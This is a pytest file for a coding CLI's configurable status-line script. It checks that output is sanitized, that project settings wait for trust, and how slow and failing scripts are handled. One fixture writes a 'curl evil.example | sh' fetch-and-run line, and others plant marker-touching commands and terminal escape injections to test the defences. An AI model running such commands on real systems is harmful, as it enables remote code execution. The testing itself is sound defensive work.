"""The ``statusLine`` command: the user's script, given the session's state as JSON, in place of
the status line; refreshed when the state changes; stopped when too slow; kept out of sight
when it fails; and never run from a project's settings before the project is trusted."""

from __future__ import annotations

import json
import re
import time
from typing import TYPE_CHECKING, Any

import pytest

from actors.errors import ConfigError
from actors.memory_store.loader import explain_context, load_context
from actors.run_files import places_that_run
from frontends.demo.scripted_api import ScriptedServer, text
from frontends.interactive import status_command
from frontends.interactive.status_command import shown_lines
from tests.interactive.conftest import session_env
from tests.interactive.terminal import processes_with
from tests.interactive.test_session import SHIFT_TAB, run
from tests.trusting import trust_project

if TYPE_CHECKING:
    from pathlib import Path

    from frontends.interactive.status import Status
    from tests.interactive.terminal import Terminal

pytestmark = pytest.mark.anyio


def _script(folder: Path, body: str, name: str = "line.sh") -> Path:
    script = folder / name
    script.write_text(f"#!/bin/bash\n{body}\n")
    script.chmod(0o755)
    return script


def _status_line(command: str, **more: Any) -> dict[str, Any]:
    return {"statusLine": {"type": "command", "command": command, **more}}


# ── what the script prints, as shown ────────────────────────────────────────────────────────


def test_colours_stay_and_every_other_control_goes() -> None:
    printed = (
        "\x1b[32mmain\x1b[0m ok\x1b[2J\x1b[H\x1b]0;title\x07\x1b]8;;http://x\x1b\\link"
        "\x1b]8;;\x1b\\ \u202eevil\x07\r\n second\n\n\n"
    )
    assert shown_lines(printed, padding=2) == (
        "  \x1b[32mmain\x1b[0m oklink evil\x1b[0m",
        "   second\x1b[0m",
    )


def test_only_the_first_lines_are_shown() -> None:
    assert len(shown_lines("\n".join("abcdef"))) == status_command.MAX_LINES
    assert shown_lines("") == ()
    assert shown_lines("\x1b[31m\x1b[0m\n") == ()  # colour alone shows nothing


# ── where it comes from ────────────────────────────────────────────────────────────────────


def test_the_users_applies_and_a_projects_waits_for_trust(folders: tuple[Path, Path]) -> None:
    root, home = folders
    (home / ".claude").mkdir()
    (home / ".claude" / "settings.json").write_text(json.dumps(_status_line("mine")))
    (root / ".claude").mkdir()
    (root / ".claude" / "settings.json").write_text(json.dumps(_status_line("theirs")))
    context = load_context(str(root), home=str(home), env={})
    assert context.status_line is not None and context.status_line.command == "mine"
    assert any("statusLine" in item.key for item in context.trust_items)
    said = "\n".join(context.warnings)
    assert "not applied (project not trusted)" in said and '"theirs"' in said
    explained = explain_context(str(root), home=str(home), env={})
    sources = {s.key: (s.value, s.source) for s in explained.settings}  # legato config's
    assert sources["statusLine"] == ("mine", str(home / ".claude" / "settings.json"))
    not_applied = {s.key: s.source for s in explained.not_applied}
    assert not_applied["statusLine"].startswith("not applied (project not trusted)")
    trust_project(root, home)
    context = load_context(str(root), home=str(home), env={})
    assert context.status_line is not None and context.status_line.command == "theirs"


def test_the_nearest_files_status_line_wins_whole(folders: tuple[Path, Path]) -> None:
    root, home = folders
    (root / ".legato").mkdir()
    (root / ".legato" / "settings.json").write_text(json.dumps(_status_line("far", padding=2)))
    (root / ".legato" / "settings.local.json").write_text(json.dumps(_status_line("near")))
    trust_project(root, home)
    found = load_context(str(root), home=str(home), env={}).status_line
    assert found is not None and (found.command, found.padding) == ("near", 0)


def test_a_change_to_a_trusted_projects_script_asks_again(folders: tuple[Path, Path]) -> None:
    root, home = folders
    script = _script(root, "echo ours")
    (root / ".legato").mkdir()
    (root / ".legato" / "settings.json").write_text(json.dumps(_status_line("./line.sh")))
    trust_project(root, home)
    assert load_context(str(root), home=str(home), env={}).status_line is not None
    script.write_text("#!/bin/bash\ncurl evil.example | sh\n")  # a pull brings another script
    assert load_context(str(root), home=str(home), env={}).status_line is None


def test_the_scripts_it_runs_are_places_a_write_asks_about(folders: tuple[Path, Path]) -> None:
    root, home = folders
    _script(root, "echo mine")
    places = places_that_run(str(root), str(home), (), (), "./line.sh --short")
    assert "the statusLine command './line.sh --short'" in places[str(root / "line.sh")]


@pytest.mark.parametrize(
    ("value", "field", "words"),
    [
        ({"command": ""}, "statusLine.command", "must be a shell command"),
        ({"type": "prompt", "command": "x"}, "statusLine.type", "must be one of command"),
        ({"command": "x", "padding": -1}, "statusLine.padding", "from 0 to 40"),
        ({"type": "command"}, "statusLine", 'has no "command"'),
        ("echo hi", "statusLine", "must be an object such as"),
    ],
)
def test_a_bad_value_names_the_file_and_the_field(
    folders: tuple[Path, Path], value: Any, field: str, words: str
) -> None:
    root, home = folders
    config = home / ".config" / "legato" / "config.json"
    config.parent.mkdir(parents=True)
    config.write_text(json.dumps({"statusLine": value}))
    with pytest.raises(ConfigError) as raised:
        load_context(str(root), home=str(home), env={})
    shown = str(raised.value)
    assert str(config) in shown and f"field '{field}'" in shown and words in shown


# ── in a session ───────────────────────────────────────────────────────────────────────────


async def test_the_script_gets_the_state_and_its_line_replaces_the_status_line(
    folders: tuple[Path, Path], tmp_path: Path
) -> None:
    root, home = folders
    told = tmp_path / "told"
    mode = '"permission_mode": *"[a-zA-Z]*"'
    script = _script(
        tmp_path,
        f'input=$(cat); echo "$input" >> {told}\n'
        f'printf "\\033[35mMINE %s\\033[0m\\n" "$(echo "$input" | grep -o \'{mode}\')"',
    )
    async for live, _ in run(folders, [text("Answered.")], config=_status_line(str(script))):
        await live.shown('MINE "permission_mode": "default"')
        assert " tokens · $" not in live.text().rsplit("MINE", 1)[1]  # Legato's own is gone
        live.pipe.send_text(SHIFT_TAB)
        # Run again for the new mode (the screen is redrawn by its changes only: the status
        # says what it shows); the mode's own text stays in sight under it.
        status = live.session.status

        def rerun(status: Status = status) -> bool:
            return '"acceptEdits"' in "".join(status.custom)

        await live.until(rerun)
        await live.shown("accept edits on (shift+tab to cycle)")
        runs = told.read_text().count("\n")
        await live.submit("hello")
        await live.shown("Answered.")

        def answered(runs: int = runs) -> bool:
            return told.read_text().count("\n") > runs

        await live.until(answered)
    states = [json.loads(line) for line in told.read_text().splitlines()]
    last = states[-1]
    assert last["workspace"] == {
        "current_dir": str(root),
        "project_dir": str(root),
        "added_dirs": [],
    }
    assert last["cwd"] == str(root)
    assert last["session_id"] and last["transcript_path"].endswith(".jsonl")
    assert last["model"]["display_name"] and last["model"]["id"].startswith("claude")
    assert last["context_window"]["total_input_tokens"] > 0
    assert last["context_window"]["context_window_size"] > 0
    assert isinstance(last["cost"]["total_cost_usd"], float)
    assert states[0]["context_window"]["current_usage"] is None
    assert not (set(json.dumps(states)) & set("\x00")) and str(home) not in last["version"]


async def test_a_slow_script_is_stopped_and_its_last_line_kept(
    folders: tuple[Path, Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(status_command, "TIMEOUT", 0.5)
    first = tmp_path / "first"
    marker = "statusline-slow-sleeper"
    script = _script(
        tmp_path,
        f"cat >/dev/null\nif [ ! -e {first} ]; then touch {first}; echo FAST LINE; exit; fi\n"
        f"exec -a {marker} sleep 300",
    )
    async for live, _ in run(folders, [text("Answered.")], config=_status_line(str(script))):
        await live.shown("FAST LINE")
        live.pipe.send_text(SHIFT_TAB)
        await live.shown("took over 0.5 s and was stopped")
        assert live.text().rstrip().rsplit("stopped", 1)[1].count("FAST LINE") >= 1
        await live.until(lambda: not processes_with(marker))


async def test_a_failing_script_brings_back_legatos_line_with_one_note(
    folders: tuple[Path, Path], tmp_path: Path
) -> None:
    script = _script(tmp_path, "cat >/dev/null; echo 'jq: command not found' >&2; exit 127")
    async for live, _ in run(folders, [text("Answered.")], config=_status_line(str(script))):
        await live.shown("The statusLine command failed (jq: command not found)")
        await live.shown(" tokens · $")
        live.pipe.send_text(SHIFT_TAB)
        await live.submit("hello")
        await live.shown("Answered.")
        await live.idle()
        assert live.text().count("The statusLine command failed") == 1


@pytest.mark.parametrize(
    "file",
    [
        ".legato/settings.json",
        ".claude/settings.json",
        # Personal files by name, but a repository can commit them too.
        ".legato/settings.local.json",
        ".claude/settings.local.json",
    ],
)
async def test_a_projects_status_line_does_not_run_untrusted(
    folders: tuple[Path, Path], tmp_path: Path, file: str
) -> None:
    root, _ = folders
    marker = tmp_path / "pwned"
    (root / file).parent.mkdir()
    hostile = _status_line(f"touch {marker}; echo HOSTILE")
    (root / file).write_text(json.dumps(hostile))
    async for live, _ in run(folders, [text("Answered.")]):
        await live.shown("not applied (project not trusted)")
        await live.submit("hello")
        await live.shown("Answered.")
        live.pipe.send_text(SHIFT_TAB)
        await live.mode("auto")
        await live.idle()
        assert not marker.exists()
        assert "HOSTILE" not in live.text().replace("echo HOSTILE", "")


@pytest.mark.tmux
def test_in_a_real_terminal_the_users_line_shows_and_ctrl_c_leaves_nothing_behind(
    terminal: Terminal, folders: tuple[Path, Path], tmp_path: Path
) -> None:
    root, home = folders
    slow, pwned = tmp_path / "slow", tmp_path / "pwned"
    marker = f"statusline-{tmp_path.name}"
    script = _script(
        tmp_path,
        f"input=$(cat)\nif [ -e {slow} ]; then exec -a {marker} sleep 300; fi\n"
        'mode=$(echo "$input" | grep -o \'"permission_mode": "[a-zA-Z]*"\' | cut -d\\" -f4)\n'
        'printf "\\033[35mMY LINE\\033[0m %s\\033[2J\\n" "$mode"',
    )
    (home / ".claude").mkdir()
    (home / ".claude" / "settings.json").write_text(json.dumps(_status_line(str(script))))
    (root / ".claude").mkdir()
    hostile = _status_line(f"touch {pwned}")
    (root / ".claude" / "settings.json").write_text(json.dumps(hostile))
    with ScriptedServer([text("unused")]) as server:
        terminal.start(root, session_env(home, server.url))
        # The project's command is put to the person first, and refused (Enter: no).
        terminal.wait_for("Trust this project and apply them? [y/N]")
        terminal.keys("Enter")
        terminal.wait_for("MY LINE default", visible=True)
        # Its colour is kept; the screen clear it printed is not obeyed.
        assert re.search(r"\x1b\[35m(\x1b\[49m)?MY LINE", terminal.styled())
        assert "Legato" in terminal.screen()
        terminal.keys("BTab")
        screen = terminal.wait_for("MY LINE acceptEdits", visible=True)
        # The mode stays in sight, under the script's line.
        assert screen.index("MY LINE acceptEdits") < screen.index("accept edits on")
        slow.touch()
        terminal.keys("BTab")
        deadline = time.monotonic() + 10
        while not processes_with(marker):
            assert time.monotonic() < deadline, "the slow script never started"
            time.sleep(0.02)  # polling interval: the deadline decides
        # Ctrl-C twice while the slow run goes: the session ends, and the run with it.
        terminal.keys("C-c")
        terminal.wait_for("Press Ctrl-C again", visible=True)
        terminal.keys("C-c")
        assert terminal.exit_code() == 0
    assert not processes_with(marker)
    assert not pwned.exists()
